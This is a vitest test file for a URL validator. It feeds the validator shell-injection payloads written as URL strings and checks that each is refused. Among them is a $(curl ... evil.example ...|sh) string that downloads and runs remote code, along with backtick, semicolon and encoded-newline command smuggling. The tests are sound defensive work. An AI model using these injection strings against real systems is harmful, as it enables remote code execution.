/**
 * The service URL is typed by a person, saved in settings and pasted into shell
 * snippets, and it decides where the password and session go. What it may contain
 * is a security boundary, so these inputs are hostile on purpose.
 */
import { describe, expect, it } from 'vitest';
import { normalizeServiceUrl } from '../../src/shared/service-url.js';

function refusal(raw: string): string {
  const check = normalizeServiceUrl(raw);
  if (check.ok) throw new Error(`${JSON.stringify(raw)} was accepted as ${check.url}`);
  return check.message;
}

describe('normalizeServiceUrl: what a service URL may contain', () => {
  it.each([
    ["https://evil.example/$(curl$IFS'evil.example/x'|sh)"],
    ['https://evil.example/`id`'],
    ['https://evil.example/a;id'],
    ['https://evil.example/a|id'],
    ['https://evil.example/a&id'],
    ["https://evil.example/it's"],
    ['https://evil.example/a"b'],
    ['https://evil.example/a%20b'],
    ['https://evil.example/%0aid'],
    ['https://evil.example/%0Did'],
    ['https://evil.example/%27%3Bid%3B%27'],
    ['https://evil.example/%24(id)'],
    ['https://evil.example/a*'],
    ['https://evil.example/{a,b}'],
    ['https://evil.example/a!b'],
    ['https://evil.example/a=b'],
    ['https://evil.example/a+b'],
    ['https://evil.example/a,b'],
    ['https://evil.example/a@b'],
    ['https://evil.example/%ff'],
  ])('refuses the path of %j', (raw) => {
    expect(refusal(raw)).toBe(
      'The service URL path may contain only letters, digits and . _ ~ / - (and percent-escaped non-ASCII characters).',
    );
  });

  it.each([
    ['https://evil$(id).example/'],
    ["https://evil'.example/"],
    ['https://a(b).example/'],
    ['https://a&b.example/'],
    ['https://a!b.example/'],
  ])('refuses the host of %j', (raw) => {
    expect(refusal(raw)).toBe(
      'The service URL host may contain only letters, digits, dots and hyphens, or be an IP address.',
    );
  });

  it.each([
    ['https://evil.example/a b'],
    ['https://evil.example/a\nb'],
    ['https://evil.example/a\rb'],
    ['https://evil.example/a\tb'],
    ['https://evil.example/\u0000'],
    ['https://evil.\nexample/'],
  ])(
    'refuses line breaks and control characters that the URL parser would silently drop: %j',
    (raw) => {
      expect(refusal(raw)).toBe(
        'The service URL must not contain spaces, line breaks or control characters.',
      );
    },
  );

  it.each([
    ['https://tokens.example.test', 'https://tokens.example.test'],
    ['https://tokens.example.test/', 'https://tokens.example.test'],
    [
      '  https://Tokens.Example.TEST:8443/api/v1.2_x~y-z//  ',
      'https://tokens.example.test:8443/api/v1.2_x~y-z',
    ],
    ['https://example.test/t%C3%B6kens', 'https://example.test/t%C3%B6kens'],
    ['https://example.test/tökens', 'https://example.test/t%C3%B6kens'],
    ['https://bücher.example/', 'https://xn--bcher-kva.example'],
    ['https://[2001:db8::1]:8443/', 'https://[2001:db8::1]:8443'],
    ['https://203.0.113.5/', 'https://203.0.113.5'],
  ])('accepts %j as %j', (raw, url) => {
    expect(normalizeServiceUrl(raw)).toEqual({ ok: true, url });
  });
});

describe('normalizeServiceUrl: http only to this computer', () => {
  const httpsNeeded =
    'Use https:// for a service on another computer: over http:// your password and session would cross the network unencrypted. http:// is allowed only for this computer (localhost, 127.0.0.1, [::1]).';

  it.each([
    ['http://tokens.example.test'],
    ['http://203.0.113.5:4780'],
    ['http://10.0.0.2:4780'],
    ['http://192.168.1.10'],
    ['http://[2001:db8::1]/'],
    ['http://localhost.evil.example/'],
    ['http://127.0.0.1.nip.io/'],
    ['http://localhost./'],
    ['http://[::ffff:127.0.0.1]/'],
    ['http://0.0.0.0:4780'],
  ])('refuses %j with a sentence the sign-in form shows inline', (raw) => {
    expect(refusal(raw)).toBe(httpsNeeded);
  });

  it.each([
    ['http://127.0.0.1:4780', 'http://127.0.0.1:4780'],
    ['http://127.0.0.1:4780/', 'http://127.0.0.1:4780'],
    ['http://127.5.6.7:9', 'http://127.5.6.7:9'],
    ['http://127.1:4780', 'http://127.0.0.1:4780'],
    ['http://localhost:4780', 'http://localhost:4780'],
    ['http://LOCALHOST:4780/api', 'http://localhost:4780/api'],
    ['http://[::1]:4780', 'http://[::1]:4780'],
  ])('accepts loopback %j as %j', (raw, url) => {
    expect(normalizeServiceUrl(raw)).toEqual({ ok: true, url });
  });

  it('keeps the earlier refusals and their wording', () => {
    expect(refusal('localhost')).toBe('Enter the service URL, for example http://127.0.0.1:4780.');
    expect(refusal('ftp://x')).toBe('The service URL must start with http:// or https://.');
    expect(refusal('https://user:pw@host.example')).toBe(
      'The service URL must not contain a user name or password.',
    );
    expect(refusal('http://user:pw@host.example')).toBe(
      'The service URL must not contain a user name or password.',
    );
    expect(refusal('https://host.example/?a=1')).toBe(
      'The service URL must not contain a query or fragment.',
    );
  });
});
